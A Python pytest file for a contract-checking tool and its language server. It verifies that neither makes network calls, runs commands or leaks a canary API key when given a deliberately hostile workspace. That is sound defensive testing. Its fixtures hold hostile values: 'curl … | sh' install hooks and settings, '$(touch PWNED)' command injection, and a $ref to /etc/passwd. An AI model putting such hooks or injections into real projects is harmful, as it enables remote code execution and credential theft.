"""Untrusted and offline: a workspace whose configuration and contracts try to make
specward reach out (server URLs, external ``$ref``s, URLs and script-like values in
specward.toml, package.json, tsconfig.json, .vscode/settings.json, editor settings).

The real ``specward check`` (cold, with parser processes) and the real server over stdio
run with a ``sitecustomize`` that installs an audit hook in every Python process they
start (parser processes included) and logs, per process: ``socket.connect`` and name
lookups, process creation (``subprocess.Popen``, ``os.system``, ``os.exec*``,
``os.posix_spawn``, ``os.fork``, and ``_posixsubprocess.fork_exec``, which multiprocessing
uses without an audit event of its own), files opened for writing, SQLite databases
opened, imports of litellm. A real HTTP server listens on 127.0.0.1 at the port every URL
names and records any connection. A deliberate offender run through the same harness
first shows that each of these detections works."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from rsupport import scaled

SITECUSTOMIZE = r'''
import atexit, json, os, sys
_dir = os.environ.get("SPECWARD_AUDIT_DIR")
if _dir:
    _log = open(os.path.join(_dir, "audit-%d.jsonl" % os.getpid()), "a", buffering=1, encoding="utf-8")
    _busy = []
    _WRITE = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC

    def _record(event, *args):
        if _busy:
            return
        _busy.append(1)
        try:
            _log.write(json.dumps([event, [a if isinstance(a, (str, int, float, bool, type(None))) else repr(a)
                                           for a in args]]) + "\n")
        finally:
            _busy.pop()

    def _hook(event, args):
        if _busy:
            return
        if event == "open":
            path, mode, flags = (list(args) + [None, None, None])[:3]
            writing = (isinstance(mode, str) and any(c in mode for c in "wax+")) or (
                isinstance(flags, int) and flags & _WRITE)
            if writing and isinstance(path, (str, bytes, os.PathLike)):
                _record("open-write", os.path.abspath(os.fsdecode(path)))
        elif event == "sqlite3.connect":
            db = args[0]
            _record(event, os.path.abspath(os.fsdecode(db)) if isinstance(db, (str, bytes, os.PathLike)) else repr(db))
        elif event == "import":
            if str(args[0]).split(".")[0] == "litellm":
                _record("import", args[0])
        elif event in ("socket.connect", "socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyaddr",
                       "urllib.Request", "http.client.connect", "subprocess.Popen", "os.system", "os.exec",
                       "os.posix_spawn", "os.spawn", "os.fork", "os.forkpty", "pty.spawn", "os.startfile"):
            _record(event, *[repr(a) if not isinstance(a, str) else a for a in args])

    import _posixsubprocess
    _fork_exec = _posixsubprocess.fork_exec

    def _logged_fork_exec(args, executables, *rest):  # multiprocessing's spawn: no audit event of its own
        _record("fork_exec", json.dumps([os.fsdecode(a) for a in (args or [])]),
                json.dumps([os.fsdecode(e) for e in (executables or [])]))
        return _fork_exec(args, executables, *rest)

    _posixsubprocess.fork_exec = _logged_fork_exec
    sys.addaudithook(_hook)

    @atexit.register
    def _modules():
        _record("exit", json.dumps(sorted(m for m in sys.modules if m.split(".")[0] == "litellm")))
'''

# tests/conftest.py puts the suite's canary key in the environment of every test
CANARY_KEY = os.environ["SPECWARD_API_KEY"]
assert CANARY_KEY.startswith("sk-specward-canary")


class Listener:
    """A real HTTP server on 127.0.0.1 recording every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.port = self.sock.getsockname()[1]
        self.connections: list[bytes] = []
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        self.sock.settimeout(0.2)
        while not self._stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    data = conn.recv(4096)
                except OSError:
                    data = b""
                self.connections.append(data)
                try:
                    conn.sendall(b"HTTP/1.0 200 OK\r\nContent-Type: text/yaml\r\n\r\nopenapi: 3.0.3\n")
                except OSError:
                    pass

    def close(self) -> None:
        self._stop = True
        self.thread.join(2)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture
def harness(tmp_path: Path) -> dict:
    site = tmp_path / "site"
    site.mkdir()
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE)
    audit = tmp_path / "audit"
    audit.mkdir()
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(site), os.environ.get("PYTHONPATH", "")]).rstrip(os.pathsep),
               SPECWARD_AUDIT_DIR=str(audit))
    assert env["OPENAI_API_KEY"] == CANARY_KEY  # the suite's canary is in the environment of every process
    return {"env": env, "audit": audit}


def events(audit: Path) -> dict[int, list[tuple[str, list]]]:
    out: dict[int, list[tuple[str, list]]] = {}
    for log in sorted(audit.glob("audit-*.jsonl")):
        pid = int(log.stem.split("-")[1])
        out[pid] = [tuple(json.loads(line)) for line in log.read_text().splitlines() if line.strip()]
    return out


def verdict(audit: Path, extra_files: list[Path] = ()) -> dict:
    """What the processes did: connections, processes started (other than parser
    processes), litellm, files written (and whether any holds the canary)."""
    got = events(audit)
    connects, lookups, spawned, unexpected, litellm, written = [], [], [], [], [], set()
    for pid, evs in got.items():
        for event, args in evs:
            if event in ("socket.connect", "http.client.connect", "urllib.Request"):
                connects.append((pid, event, args))
            elif event.startswith("socket.get"):
                lookups.append((pid, event, args))
            elif event == "fork_exec":
                argv, exes = json.loads(args[0]), json.loads(args[1])
                spawned.append(argv)
                if not _parser_process(argv, exes):
                    unexpected.append((pid, event, argv))
            elif event in ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork",
                           "os.forkpty", "pty.spawn", "os.startfile"):
                unexpected.append((pid, event, args))
            elif event == "import" or (event == "exit" and json.loads(args[0])):
                litellm.append((pid, event, args))
            elif event in ("open-write", "sqlite3.connect"):
                written.add(Path(args[0]))
    written |= set(extra_files)
    leaked = []
    for path in sorted(written):
        if path.is_file() and path.parent != audit:
            try:
                data = path.read_bytes()
            except OSError:
                continue
            if CANARY_KEY.encode() in data:
                leaked.append(str(path))
    return {"pids": sorted(got), "connects": connects, "lookups": lookups, "spawned": spawned,
            "unexpected": unexpected, "litellm": litellm, "written": sorted(map(str, written)), "leaked": leaked}


def _parser_process(argv: list[str], exes: list[str]) -> bool:
    """A multiprocessing child: sys.executable ``-c 'from multiprocessing.spawn import
    spawn_main; ...' --multiprocessing-fork`` or the resource tracker."""
    if not argv or os.path.realpath(argv[0]) != os.path.realpath(sys.executable):
        return False
    if argv[-1] == "--multiprocessing-fork" or "--multiprocessing-fork" in argv:
        return any("from multiprocessing.spawn import spawn_main" in a for a in argv)
    return any(a.startswith("from multiprocessing.resource_tracker import main") for a in argv)


# --------------------------------------------------------------------------- the harness can fail

OFFENDER = r"""
import os, socket, subprocess, sys
socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5).close()
subprocess.run(["true"])
with open(sys.argv[2], "w") as f:
    f.write(os.environ["OPENAI_API_KEY"])
import concurrent.futures as cf, multiprocessing as mp
with cf.ProcessPoolExecutor(1, mp_context=mp.get_context("spawn")) as pool:
    pool.submit(abs, -1).result()
"""


def test_the_harness_catches_an_offender(tmp_path: Path, harness: dict, listener: Listener):
    out = subprocess.run([sys.executable, "-c", OFFENDER, str(listener.port), str(tmp_path / "leak.txt")],
                         env=harness["env"], capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    deadline = time.monotonic() + 5
    while not listener.connections and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(listener.connections) == 1
    v = verdict(harness["audit"])
    assert [c[1] for c in v["connects"]] == ["socket.connect"]
    assert any(e[1] == "subprocess.Popen" for e in v["unexpected"])  # `true`
    assert any(e[1] == "fork_exec" and e[2] == ["true"] for e in v["unexpected"])
    assert any("--multiprocessing-fork" in argv for argv in v["spawned"])  # seen, and allowed
    assert not any("--multiprocessing-fork" in e[2] for e in v["unexpected"] if e[1] == "fork_exec")
    assert len(v["pids"]) >= 2  # the pool's child logged too: sitecustomize runs in spawned processes
    assert v["leaked"] == [str(tmp_path / "leak.txt")]


# --------------------------------------------------------------------------- the hostile workspace


def hostile_workspace(root: Path, port: int, files: int) -> None:
    url = f"http://127.0.0.1:{port}"
    (root / ".git").mkdir(parents=True)
    (root / "specward.toml").write_text(
        f'contracts = ["api/openapi.yaml", "{url}/openapi.yaml", "//127.0.0.1:{port}/x.yaml"]\n'
        f'exclude = ["$(curl {url}/exclude)"]\n'
        f'command = "curl {url}/toml | sh"\n')
    (root / "package.json").write_text(json.dumps({
        "name": "hostile", "version": "1.0.0",
        "scripts": {"preinstall": f"curl {url}/pre | sh", "postinstall": f"wget {url}/post", "prepare": "node x.js"},
        "dependencies": {"api": f"{url}/api.tgz", "lib": f"git+{url}/lib.git"},
        "workspaces": [f"{url}/ws"], "repository": {"type": "git", "url": f"{url}/repo.git"},
        "exports": {".": f"{url}/index.js"}, "main": f"{url}/main.js",
    }))
    (root / "tsconfig.json").write_text(json.dumps({
        "extends": f"{url}/tsconfig.base.json",
        "compilerOptions": {"baseUrl": f"{url}/", "paths": {"@api/*": [f"{url}/*"], "@x": ["$(touch PWNED)"]},
                            "plugins": [{"name": f"{url}/plugin"}]},
        "references": [{"path": f"{url}/ref"}],
    }))
    (root / ".vscode").mkdir()
    (root / ".vscode/settings.json").write_text(json.dumps({
        "specward.server.path": f"curl {url}/server | sh", "specward.contracts": [f"{url}/c.yaml"],
        "http.proxy": url, "typescript.tsserver.pluginPaths": [f"{url}/plugins"]}))
    (root / "api").mkdir()
    (root / "api/openapi.yaml").write_text(f"""\
openapi: 3.0.3
info: {{title: hostile, version: '1'}}
externalDocs: {{url: '{url}/docs'}}
servers: [{{url: '{url}/api'}}]
paths:
  /users:
    get:
      responses:
        '200':
          description: ok
          content:
            application/json:
              schema: {{$ref: '{url}/x.yaml#/User'}}
  /remote:
    $ref: '{url}/paths.yaml'
  /file:
    $ref: 'file:///etc/passwd'
""")
    (root / "src").mkdir()
    (root / "src/app.ts").write_text(
        f"import remote from '{url}/mod.js';\n"
        f"import '@api/users';\n"
        f"export const users = () => fetch('{url}/api/users');\n"
        f"export const other = () => fetch('/api/nope');\n")
    (root / "src/tool.py").write_text(f"import requests\n\nrequests.get('{url}/api/users')\n")
    for i in range(files):  # enough files for a cold build to start parser processes
        (root / f"src/f{i:04d}.ts").write_text(f"export const f{i} = () => fetch('/api/users?i={i}');\n")


def assert_offline(v: dict, listener: Listener) -> None:
    assert listener.connections == [], listener.connections
    assert v["connects"] == [] and v["lookups"] == [], (v["connects"], v["lookups"])
    assert v["unexpected"] == [], v["unexpected"]
    assert v["litellm"] == [], v["litellm"]
    assert v["leaked"] == [], v["leaked"]


def test_check_stays_offline_and_runs_nothing(tmp_path: Path, harness: dict, listener: Listener):
    root = tmp_path / "ws"
    hostile_workspace(root, listener.port, files=scaled(2000, 450))
    out = subprocess.run([sys.executable, "-m", "specward.server", "check", ".", "--format", "json"], cwd=root,
                         env=harness["env"], capture_output=True, text=True, timeout=300)
    assert out.returncode in (1, 2), out.stderr  # 2: the configuration has an unknown key (reported)
    data = json.loads(out.stdout)
    msgs = [d["message"] for d in data["diagnostics"] if d["file"] == "api/openapi.yaml"]
    assert any("external $ref" in m and "/x.yaml#/User" in m for m in msgs), msgs
    assert any("path `/remote` is declared in another file or at a URL" in m for m in msgs), msgs
    time.sleep(0.3)  # a late connection attempt would still be recorded
    specward_files = [p for p in (root / ".specward").rglob("*") if p.is_file()]
    v = verdict(harness["audit"], specward_files)
    assert_offline(v, listener)
    # the cold build did start parser processes (the allowance was exercised), which logged too
    assert any("--multiprocessing-fork" in argv for argv in v["spawned"]), v["spawned"]
    assert len(v["pids"]) >= 3, v["pids"]
    assert (root / ".specward/cache.sqlite").is_file() and str(root / ".specward/cache.sqlite") in v["written"]
    # nothing written outside the workspace, except the interpreter's own temporary files
    outside = [w for w in v["written"] if not w.startswith(str(root)) and not w.startswith(str(harness["audit"]))
               and not w.startswith("/dev/")]
    assert outside == [], outside
    assert not (root / "PWNED").exists()


# --------------------------------------------------------------------------- the server over stdio


class Rpc:
    """A minimal LSP client over the server's stdio."""

    def __init__(self, proc: subprocess.Popen) -> None:
        self.proc = proc
        self.messages: list[dict] = []
        self.lock = threading.Condition()
        self.next_id = 0
        threading.Thread(target=self._read, daemon=True).start()

    def _read(self) -> None:
        out = self.proc.stdout
        while True:
            headers = {}
            while True:
                line = out.readline()
                if not line:
                    return
                line = line.strip()
                if not line:
                    break
                k, _, v = line.decode().partition(":")
                headers[k.lower()] = v.strip()
            body = json.loads(out.read(int(headers["content-length"])))
            if "method" in body and "id" in body:  # a request from the server: answer null
                self.send({"jsonrpc": "2.0", "id": body["id"], "result": None})
            with self.lock:
                self.messages.append(body)
                self.lock.notify_all()

    def send(self, msg: dict) -> None:
        data = json.dumps(msg).encode()
        self.proc.stdin.write(b"Content-Length: %d\r\n\r\n" % len(data) + data)
        self.proc.stdin.flush()

    def notify(self, method: str, params: dict) -> None:
        self.send({"jsonrpc": "2.0", "method": method, "params": params})

    def request(self, method: str, params: dict, timeout: float = 60) -> dict:
        self.next_id += 1
        rid = self.next_id
        self.send({"jsonrpc": "2.0", "id": rid, "method": method, "params": params})
        return self.wait(lambda m: m.get("id") == rid and "method" not in m, timeout, method)

    def wait(self, pred, timeout: float = 120, what: str = "message") -> dict:
        deadline = time.monotonic() + timeout
        with self.lock:
            while True:
                for m in self.messages:
                    if pred(m):
                        return m
                left = deadline - time.monotonic()
                if left <= 0:
                    raise AssertionError(f"timed out waiting for {what}")
                self.lock.wait(left)


def test_server_stays_offline_and_runs_nothing(tmp_path: Path, harness: dict, listener: Listener):
    root = tmp_path / "ws"
    hostile_workspace(root, listener.port, files=scaled(2000, 450))
    log_file = tmp_path / "server.log"
    url = f"http://127.0.0.1:{listener.port}"
    proc = subprocess.Popen([sys.executable, "-m", "specward.server", "serve", "--log-file", str(log_file)],
                            cwd=root, env=harness["env"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    try:
        rpc = Rpc(proc)
        rpc.request("initialize", {
            "processId": os.getpid(), "rootUri": root.as_uri(),
            "workspaceFolders": [{"uri": root.as_uri(), "name": "ws"}],
            "capabilities": {"textDocument": {"publishDiagnostics": {}}},
            # editor settings with URLs and commands: unknown ones are ignored, globs are globs
            "initializationOptions": {"contracts": ["api/openapi.yaml", f"{url}/c.yaml"],
                                      "serverPath": f"curl {url}/s | sh", "proxy": url,
                                      "apiKey": CANARY_KEY, "severity": {"phantom-api": "error"}},
        })
        rpc.notify("initialized", {})
        rpc.wait(lambda m: m.get("method") == "specward/status" and m["params"].get("published"), 180, "ready")
        app = (root / "src/app.ts").as_uri()
        text = (root / "src/app.ts").read_text() + f"export const more = () => fetch('{url}/api/users?x=1');\n"
        rpc.notify("textDocument/didOpen", {"textDocument": {"uri": app, "languageId": "typescript", "version": 1,
                                                             "text": text}})
        rpc.request("textDocument/hover", {"textDocument": {"uri": app}, "position": {"line": 2, "character": 40}})
        # edit the contract in the editor: another external $ref, read again, still never fetched
        contract = (root / "api/openapi.yaml").as_uri()
        ctext = (root / "api/openapi.yaml").read_text() + f"  /more:\n    $ref: '{url}/more.yaml'\n"
        rpc.notify("textDocument/didOpen", {"textDocument": {"uri": contract, "languageId": "yaml", "version": 1,
                                                             "text": ctext}})
        diag = rpc.wait(lambda m: m.get("method") == "textDocument/publishDiagnostics"
                        and m["params"]["uri"] == contract
                        and any("/more" in d["message"] for d in m["params"]["diagnostics"]), 60, "contract diagnostics")
        assert any("more.yaml" in d["message"] for d in diag["params"]["diagnostics"])
        rpc.request("shutdown", {})
        rpc.notify("exit", {})
        proc.wait(30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait(10)
    stderr = proc.stderr.read().decode(errors="replace")
    assert log_file.is_file() and log_file.stat().st_size > 0, stderr[-2000:]
    time.sleep(0.3)
    specward_files = [p for p in (root / ".specward").rglob("*") if p.is_file()]
    v = verdict(harness["audit"], [log_file, *specward_files])
    assert_offline(v, listener)
    assert CANARY_KEY not in stderr  # (the log also goes to stderr)
    assert any("--multiprocessing-fork" in argv for argv in v["spawned"]), v["spawned"]
    assert str(log_file) in v["written"]
